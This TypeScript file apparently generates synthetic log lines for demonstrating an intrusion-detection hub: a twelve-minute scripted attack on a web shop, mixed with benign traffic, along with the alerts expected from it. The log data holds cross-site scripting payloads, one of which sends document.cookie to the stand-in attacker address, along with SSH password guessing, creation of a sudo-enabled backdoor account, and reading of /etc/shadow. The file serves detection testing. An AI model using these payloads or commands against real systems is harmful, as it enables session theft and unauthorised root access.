// The story that the demo tells: a quiet web shop, and somebody who looks around, tries the search page, guesses a
// password and stays. Twelve minutes of log lines in four files, and what the hub must make of them.
// Promises: the same cast gives the same lines; every address is one of those kept for documentation (RFC 5737). Nothing
// of it is taken from anybody's logs.
import type { Level } from '../../hub/ports.ts';
import { nginx, refused, suricata, syslog, web1, type Line } from './log-lines.ts';

export const sources = ['web1-access', 'gw-firewall', 'web1-auth', 'ids-eve'] as const;
export type SourceName = (typeof sources)[number];

export interface StoryLine {
  readonly source: SourceName;
  readonly afterMs: number;
  readonly line: Line;
}

export interface ExpectedAlert {
  readonly title: string;
  readonly level: Level;
  /** A value of what the alert is grouped by. */
  readonly about: string;
}

export interface Scene {
  readonly title: string;
  readonly told: string;
  /** In the order of their times. */
  readonly lines: readonly StoryLine[];
  readonly expected: readonly ExpectedAlert[];
}

export interface Cast {
  readonly attacker: string;
  /** The account that the intruder makes. */
  readonly account: string;
}

export const storyMs = 12 * 60_000;

/** Another attacker at each start, or the alerts of the last telling would grow instead of new ones opening. */
export function castOf(nowMs: number): Cast {
  const turn = Math.floor(nowMs / 1_000);
  return { attacker: `203.0.113.${2 + (turn % 250)}`, account: `svc-backup${turn % 10_000}` };
}

export function story(cast: Cast): Scene[] {
  const scenes = [
    { ...reconnaissance(cast), fromMs: 0 },
    { ...scripting(cast), fromMs: 4 * 60_000 },
    { ...guessing(cast), fromMs: 6.5 * 60_000 },
    { ...staying(cast), fromMs: 9.5 * 60_000 },
    { ...watching(cast), fromMs: 11 * 60_000 },
  ];
  const others = everydayLife();
  return scenes.map(({ fromMs, ...scene }, at) => {
    const toMs = scenes[at + 1]?.fromMs ?? storyMs;
    const own = scene.lines.map((line) => ({ ...line, afterMs: fromMs + line.afterMs }));
    const around = others.filter(({ afterMs }) => afterMs >= fromMs && afterMs < toMs);
    return { ...scene, lines: [...own, ...around].sort((one, other) => one.afterMs - other.afterMs) };
  });
}

function reconnaissance({ attacker }: Cast): Scene {
  const ports = [
    21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 1433, 1521, 2375, 3306, 3389, 5432, 5900, 6379, 8080, 9200,
  ];
  const paths = [
    '/',
    '/admin/',
    '/.git/HEAD',
    '/backup.zip',
    '/phpinfo.php',
    '/server-status',
    '/wp-login.php',
    '/cgi-bin/test',
    '/login',
    '/api/',
  ];
  const scan = ports.map((port, at) => ({
    source: 'gw-firewall' as const,
    afterMs: 60_000 + at * 900,
    line: refused({ from: attacker, port, fromPort: 41_000 + at }),
  }));
  const looks = paths.map((path, at) => ({
    source: 'web1-access' as const,
    afterMs: 110_000 + at * 2_500,
    line: nginx({
      from: attacker,
      path,
      status: path === '/' ? 200 : 404,
      bytes: 153,
      agent: `Mozilla/5.00 (Nikto/2.5.0) (Test:00${at}101)`,
    }),
  }));
  return {
    title: 'Reconnaissance',
    told: `${attacker} tries ${ports.length} ports of the web server, then lets a scanner loose on it.`,
    lines: [...scan, ...looks],
    expected: [
      { title: 'Port scan', level: 'medium', about: attacker },
      { title: 'Web scanner by its own name', level: 'low', about: attacker },
    ],
  };
}

function scripting({ attacker }: Cast): Scene {
  const tries = [
    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E',
    '/search?q=%253Csvg%252Fonload%253Dalert(1)%253E',
    `/search?q=%3Cscript%3Enew%20Image().src=%27http://${attacker}/c%3F%27%2Bdocument.cookie%3C/script%3E`,
  ];
  return {
    title: 'Cross-site scripting',
    told: 'The search page is fed scripts: plain, in a tag, encoded twice, and one that sends cookies home.',
    lines: tries.map((path, at) => ({
      source: 'web1-access',
      afterMs: 20_000 + at * 14_000,
      line: nginx({ from: attacker, path, bytes: 2_048 + at }),
    })),
    expected: [{ title: 'Cross-site scripting attempt', level: 'medium', about: attacker }],
  };
}

function guessing({ attacker }: Cast): Scene {
  const users = ['root', 'admin', 'deploy', 'deploy', 'deploy', 'www-data', 'deploy', 'deploy', 'postgres', 'deploy', 'deploy', 'deploy'];
  const known = ['root', 'deploy', 'www-data', 'postgres'];
  const failed = users.map((user, at) => {
    const who = known.includes(user) ? user : `invalid user ${user}`;
    const message = `Failed password for ${who} from ${attacker} port ${50_100 + at} ssh2`;
    return { source: 'web1-auth' as const, afterMs: 15_000 + at * 4_000, line: syslog('web1', `sshd[${2_100 + at}]`, message) };
  });
  const accepted = `Accepted password for deploy from ${attacker} port 50177 ssh2`;
  const session = 'pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)';
  return {
    title: 'SSH guessing that succeeds',
    told: `${users.length} wrong passwords within a minute; the thirteenth is right.`,
    lines: [
      ...failed,
      { source: 'web1-auth', afterMs: 75_000, line: syslog('web1', 'sshd[2177]', accepted) },
      { source: 'web1-auth', afterMs: 75_100, line: syslog('web1', 'sshd[2177]', session) },
    ],
    expected: [
      { title: 'SSH password guessing', level: 'medium', about: attacker },
      { title: 'SSH login succeeded after guessing', level: 'high', about: attacker },
    ],
  };
}

function staying({ account }: Cast): Scene {
  const ran = (user: string, command: string): Line =>
    syslog('web1', 'sudo', `${user.padStart(8)} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`);
  const made = `new user: name=${account}, UID=1017, GID=1017, home=/home/${account}, shell=/bin/bash, from=/dev/pts/0`;
  return {
    title: 'An account to stay',
    told: `The guessed account makes another one, ${account}, which is root a minute later.`,
    lines: [
      { source: 'web1-auth', afterMs: 5_000, line: ran('deploy', `/usr/sbin/useradd -m -s /bin/bash ${account}`) },
      { source: 'web1-auth', afterMs: 5_400, line: syslog('web1', 'useradd[2203]', made) },
      { source: 'web1-auth', afterMs: 12_000, line: ran('deploy', `/usr/sbin/usermod -aG sudo ${account}`) },
      { source: 'web1-auth', afterMs: 70_000, line: ran(account, '/usr/bin/cat /etc/shadow') },
    ],
    expected: [
      { title: 'Account created through sudo', level: 'medium', about: 'deploy' },
      { title: 'New account uses sudo', level: 'high', about: account },
    ],
  };
}

function watching({ attacker }: Cast): Scene {
  const seen = { from: attacker, toPort: 443 };
  return {
    title: 'The intrusion detection speaks',
    told: 'Suricata reports two signatures of its highest severity, and a lesser one that stays an event.',
    lines: [
      {
        source: 'ids-eve',
        afterMs: 4_000,
        line: suricata({
          ...seen,
          fromPort: 50_201,
          signature: 'DEMO Policy unusual TLS client',
          signatureId: 9_000_003,
          category: 'Misc activity',
          severity: 3,
        }),
      },
      {
        source: 'ids-eve',
        afterMs: 15_000,
        line: suricata({
          ...seen,
          fromPort: 50_202,
          signature: 'DEMO Web shell upload',
          signatureId: 9_000_001,
          category: 'Web Application Attack',
          severity: 1,
        }),
      },
      {
        source: 'ids-eve',
        afterMs: 40_000,
        line: suricata({
          ...seen,
          fromPort: 50_203,
          signature: 'DEMO Command channel to a known host',
          signatureId: 9_000_002,
          category: 'Malware Command and Control',
          severity: 1,
        }),
      },
    ],
    expected: [
      { title: 'Suricata alert of the highest severity', level: 'high', about: 'DEMO Web shell upload' },
      { title: 'Suricata alert of the highest severity', level: 'high', about: 'DEMO Command channel to a known host' },
    ],
  };
}

/** What goes on anyway, and must raise nothing. */
function everydayLife(): StoryLine[] {
  const pages = ['/', '/shop', '/shop/lamps', '/search?q=reading+lamp', '/cart', '/style.css', '/about', '/shop/lamps/17'];
  const visits = Array.from({ length: 150 }, (_, at): StoryLine => {
    const path = pages[at % pages.length] ?? '/';
    return {
      source: 'web1-access',
      afterMs: 1_000 + at * 4_750,
      line: nginx({ from: `192.0.2.${60 + ((at * 7) % 40)}`, path, bytes: 900 + ((at * 131) % 9_000) }),
    };
  });
  const knocks = Array.from({ length: 12 }, (_, at): StoryLine => ({
    source: 'gw-firewall',
    afterMs: 20_000 + at * 58_000,
    line: refused({ from: `198.51.100.${20 + at}`, port: at % 2 === 0 ? 23 : 8_080, fromPort: 33_000 + at * 17 }),
  }));
  const work: readonly (readonly [atMs: number, program: string, message: string])[] = [
    [30_000, 'sshd[1900]', 'Accepted publickey for alice from 192.0.2.44 port 51022 ssh2: ED25519 SHA256:mYzQ1exampleOnly'],
    [41_000, 'sudo', '   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx'],
    [200_000, 'sshd[1931]', 'Failed password for alice from 192.0.2.45 port 51040 ssh2'],
    [206_000, 'sshd[1931]', 'Accepted password for alice from 192.0.2.45 port 51040 ssh2'],
    [300_000, 'CRON[1950]', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'],
    [301_000, 'CRON[1950]', 'pam_unix(cron:session): session closed for user root'],
  ];
  const told = work.map(([afterMs, program, message]): StoryLine => ({
    source: 'web1-auth',
    afterMs,
    line: syslog('web1', program, message),
  }));
  const ids = [120_000, 480_000].map((afterMs): StoryLine => ({
    source: 'ids-eve',
    afterMs,
    line: suricata({
      from: '198.51.100.77',
      fromPort: 40_000,
      to: web1,
      toPort: 80,
      signature: 'DEMO Protocol anomaly in a request',
      signatureId: 9_000_010,
      category: 'Generic Protocol Command Decode',
      severity: 3,
    }),
  }));
  return [...visits, ...knocks, ...told, ...ids];
}
